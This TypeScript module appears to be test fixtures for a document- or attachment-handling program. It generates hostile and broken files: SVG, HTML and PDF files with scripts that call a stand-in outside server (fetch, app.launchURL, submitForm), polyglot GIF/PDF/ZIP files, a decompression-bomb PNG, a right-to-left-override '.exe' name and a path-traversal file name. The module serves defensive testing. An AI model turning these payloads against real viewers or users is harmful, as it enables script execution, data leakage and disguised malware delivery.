import { closeSync, ftruncateSync, openSync, writeFileSync, writeSync } from 'node:fs'
import { join } from 'node:path'

/** Files that mean harm, or break what is not careful. What runs anywhere in them sets `window.hacked` or asks `away`, a server that must hear nothing. */

/** Stands inside the content of every file, so that it can be sought wherever the program might have left it. */
export const MARK = '金丝雀附件内容canary'

export function attackFiles(away: string): Record<string, Buffer | string> {
  const script = `window.hacked=1;top.hacked=1;fetch('${away}/script')`
  return {
    'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${away}/svg.png"/><text>${MARK}</text></svg>`,
    'refresh.html': `<!doctype html><meta http-equiv="refresh" content="0;url=${away}/refresh"><script>${script}</script><img src="${away}/x.png">${MARK}`,
    'page.png': `<html><body onload="${script}">${MARK}</body></html>`,
    'gif-script.gif': Buffer.concat([Buffer.from('GIF89a/*\x01\0*/=1;', 'latin1'), Buffer.from(`${script}//${MARK}`)]),
    'open-action.pdf': scriptedPdf(away),
    'pdf-zip.pdf': Buffer.concat([drawnPdf(), Buffer.from(`PK\x03\x04${'\0'.repeat(26)}evil.js${script}`, 'latin1')]),
    'pdf-html.pdf': Buffer.from(`%PDF-1.7\n<html><script>${script}</script><meta http-equiv="refresh" content="0;url=${away}/pdf">${MARK}`),
    'html-pdf.pdf': Buffer.concat([Buffer.from(`<html><script>${script}</script>`), drawnPdf()]),
    'half.pdf': halfPdf(),
    'damaged.pdf': drawnPdf().subarray(0, 60),
    'locked.pdf': Buffer.from(LOCKED_PDF, 'base64'),
    'scan.pdf': pdfOf([jpeg2000()], ['/Im0 Do']),
    'chinese.pdf': chinesePdf(),
    'bomb.png': Buffer.from('89504e470d0a1a0a0000000d494844520000ea600000ea6008020000000000000000000049444154', 'hex'),
    'broken.jpg': Buffer.from('ffd8ffc000110800100010030122000211010311', 'hex'),
    'photo.heic': Buffer.concat([Buffer.from('\0\0\0\x18ftypheic', 'latin1'), Buffer.alloc(100)]),
    'letter.docx': Buffer.from(`PK\x03\x04${'\0'.repeat(26)}[Content_Types].xml`, 'latin1'),
    'call.wav': tone(2),
    'invoice_\u202Efdp.exe': `MZ ${MARK}`,
    '..\\..\\CON': `${MARK} one`,
  }
}

/** Writes 2 GB that take no room on the disk. */
export function writeHuge(folder: string): string {
  const path = join(folder, 'two gigabytes.pdf')
  const file = openSync(path, 'w')
  writeSync(file, '%PDF-1.7')
  ftruncateSync(file, 2 * 1024 ** 3)
  closeSync(file)
  return path
}

/** A scan of 40 pages, each a picture of 2.5 MB: more than 100 MB in all. */
export function writeScan(folder: string): { path: string; pages: number } {
  const path = join(folder, 'scan of 100 MB.pdf')
  const pages = 40
  const side = 1620
  const picture = (page: number) => {
    const pixels = Buffer.alloc(side * side)
    for (let at = 0; at < pixels.length; at++) pixels[at] = ((at % side) * (page + 1) + Math.floor(at / side)) & 255
    return stream(`/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceGray/BitsPerComponent 8`, pixels)
  }
  const pictures = Array.from({ length: pages }, (_, page) => picture(page))
  writeFileSync(
    path,
    pdfOf(
      pictures,
      pictures.map((_, page) => `q 200 0 0 200 0 0 cm /Im${page} Do Q`),
    ),
  )
  return { path, pages }
}

const stream = (dictionary: string, content: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`<<${dictionary}/Length ${content.length}>>stream\n`), content, Buffer.from('\nendstream')])

/** A PDF with a page for each drawing, and on it the picture of its number if there are any. */
function pdfOf(pictures: Buffer[], drawings: string[], fonts = '', more: Buffer[] = [], catalog = ''): Buffer {
  const pageAt = (page: number) => 3 + page * 2
  const firstPicture = 3 + drawings.length * 2
  const pictureOf = (page: number) => (pictures.length > 0 ? `/Im${page} ${firstPicture + page} 0 R` : '')
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Count ${drawings.length}/Kids[${drawings.map((_, page) => `${pageAt(page)} 0 R`).join(' ')}]>>`,
    ...drawings.flatMap((drawing, page) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents ${pageAt(page) + 1} 0 R/Resources<</XObject<<${pictureOf(page)}>>/Font<<${fonts}>>>>/Annots[${page === 0 ? annots(firstPicture + pictures.length, more.length) : ''}]>>`,
      stream('', Buffer.from(drawing)),
    ]),
    ...pictures,
    ...more,
  ]
  return assembled(objects.map((one) => (typeof one === 'string' ? Buffer.from(one) : one)))
}

const annots = (first: number, count: number) => Array.from({ length: count }, (_, index) => `${first + index} 0 R`).join(' ')

function assembled(objects: Buffer[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let length = parts[0]!.length
  for (const [index, object] of objects.entries()) {
    const whole = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from('\nendobj\n')])
    offsets.push(length)
    parts.push(whole)
    length += whole.length
  }
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  parts.push(
    Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`),
  )
  return Buffer.concat(parts)
}

const SQUARE = '0 0 1 rg 20 20 160 160 re f'

function drawnPdf(): Buffer {
  return pdfOf([], [SQUARE])
}

/** Its second page is not there. */
function halfPdf(): Buffer {
  return Buffer.from(pdfOf([], [SQUARE, SQUARE]).toString('latin1').replace('/Kids[3 0 R 5 0 R]', '/Kids[3 0 R 9 0 R]'), 'latin1')
}

/** Everything that a PDF can ask for when it is opened, shown, clicked or left. */
function scriptedPdf(away: string): Buffer {
  const script = `app.launchURL('${away}/js');this.submitForm('${away}/form');window.hacked=1`
  const action = `<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})>>`
  const link = (act: string) => Buffer.from(`<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A${act}>>`)
  const button = `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 200 200]/AA<</PO ${action}/PV ${action}/E ${action}/U ${action}>>>>`
  const more = [
    link(`<</S/URI/URI(${away}/uri)>>`),
    link('<</S/Launch/F(/usr/bin/true)>>'),
    link(`<</S/GoToR/F(${away}/other.pdf)/D[0/Fit]>>`),
    link(`<</S/ImportData/F(${away}/data.fdf)>>`),
    Buffer.from(button),
  ]
  const catalog = `/OpenAction ${action}/AA<</WC ${action}/DP ${action}>>/Names<</JavaScript<</Names[(a)${action}]>>>>/URI<</Base(${away}/)>>`
  return pdfOf([], [SQUARE], '', more, catalog)
}

/** A font that is not in the file: which sign a code stands for is read from a table of ours. */
function chinesePdf(): Buffer {
  const descendant =
    '<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>>>'
  const font = `/F1<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[${descendant}]>> /F2<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>`
  return pdfOf([], ['BT /F1 40 Tf 20 120 Td <540C610F5EF6671F> Tj /F2 40 Tf 0 -60 Td (Agreed) Tj ET'], font)
}

/** A picture as scanners pack it, for which the reader fetches its decoder from us. */
function jpeg2000(): Buffer {
  return stream('/Type/XObject/Subtype/Image/Width 24/Height 24/Filter/JPXDecode', Buffer.from(JPEG_2000, 'base64'))
}

/** Seconds of a tone, 8,000 samples a second. */
function tone(seconds: number): Buffer {
  const samples = Buffer.alloc(seconds * 8000, Buffer.from([128, 200, 255, 200, 128, 56, 0, 56]))
  const head = Buffer.from(`RIFF....WAVEfmt ${'.'.repeat(20)}data....`, 'latin1')
  head.writeUInt32LE(36 + samples.length, 4)
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(8000, 24)
  head.writeUInt32LE(8000, 28)
  head.writeUInt16LE(1, 32)
  head.writeUInt16LE(8, 34)
  head.writeUInt32LE(samples.length, 40)
  return Buffer.concat([head, samples])
}

const JPEG_2000 =
  'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAGAAAABgAAw8HAAAAAAAPY29scgEAAAAAABAAAACwanAyY/9P/1EALwAAAAAAGAAAABgAAAAAAAAAAAAAABgAAAAYAAAAAAAAAAAAAw8BAQ8BAQ8BAf9SAAwAAAABAQQEBAAB/1wAEECAiIiQiIiQiIiQiIiQ/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS4w/5AACgAAAAAALAAB/5PfMEAGkTligICAgICh8AYMu6mAgKCMNknDgICAgID/2Q=='

/** Drawn by a page of one square, encrypted by qpdf with the password "secret". */
const LOCKED_PDF =
  'JVBERi0xLjYKJb/3ov4KMSAwIG9iago8PCAvUGFnZXMgMiAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL0NvdW50IDEgL0tpZHMgWyAzIDAgUiBdIC9UeXBlIC9QYWdlcyA+PgplbmRvYmoKMyAwIG9iago8PCAvQ29udGVudHMgNCAwIFIgL01lZGlhQm94IFsgMCAwIDEwMCAxMDAgXSAvUGFyZW50IDIgMCBSIC9UeXBlIC9QYWdlID4+CmVuZG9iago0IDAgb2JqCjw8IC9MZW5ndGggNDggL0ZpbHRlciAvRmxhdGVEZWNvZGUgPj4Kc3RyZWFtCigIA2w3yzADPixF1VptrLFtFFvbrWSwal29N/OuYyOE9ZlaYWNcfWjhK/9kAXa6WGVuZHN0cmVhbQplbmRvYmoKNSAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVTVjIgL0xlbmd0aCAxNiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDEyOCAvTyA8MGRiNTg1NWZjNTMyNjU2OWU3NjU5MDZjYWY2NGU0NDI5YTRjMjBkNmU5OTZmZGVmOTYzZTliNTA4MGY5ZTA4Mz4gL1AgLTQgL1IgNCAvU3RtRiAvU3RkQ0YgL1N0ckYgL1N0ZENGIC9VIDxkMzExNGJhYjg2ZWY0ZWE3YWZhNDc1ZTdlZDEzYWE2ZjAxMjI0NTZhOTFiYWU1MTM0MjczYTZkYjEzNGM4N2M0PiAvViA0ID4+CmVuZG9iagp4cmVmCjAgNgowMDAwMDAwMDAwIDY1NTM1IGYgCjAwMDAwMDAwMTUgMDAwMDAgbiAKMDAwMDAwMDA2NCAwMDAwMCBuIAowMDAwMDAwMTIzIDAwMDAwIG4gCjAwMDAwMDAyMTIgMDAwMDAgbiAKMDAwMDAwMDMzMCAwMDAwMCBuIAp0cmFpbGVyIDw8IC9Sb290IDEgMCBSIC9TaXplIDYgL0lEIFs8ODYyZWFkZDRhMzNhMDM0ZjMyY2I4MDkyYWUwYTViYzc+PDg2MmVhZGQ0YTMzYTAzNGYzMmNiODA5MmFlMGE1YmM3Pl0gL0VuY3J5cHQgNSAwIFIgPj4Kc3RhcnR4cmVmCjYyOQolJUVPRgo='
